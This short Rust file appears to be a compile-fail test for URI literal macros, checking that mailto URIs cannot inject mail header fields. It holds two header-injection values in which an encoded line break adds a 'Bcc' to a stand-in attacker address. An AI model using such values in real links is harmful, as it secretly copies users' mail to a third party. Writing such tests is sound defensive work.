// RFC 6068 §5: a line break in a header field other than `body` would make a
// mail composer write a header field of the URI's choosing (here a `Bcc:`);
// a field name is RFC 5322 §3.6.8's ftext, decoded (no CR, LF or ':').
use url_literal::{mailto_uri, uri, MailtoUri, Uri};

const M: MailtoUri<'static> = mailto_uri!("mailto:ops@example.com?subject=Report%0D%0ABcc:%20attacker@evil.example");
const U: Uri<'static> = uri!("mailto:ops@example.com?x%0D%0ABcc=attacker@evil.example");

fn main() {}
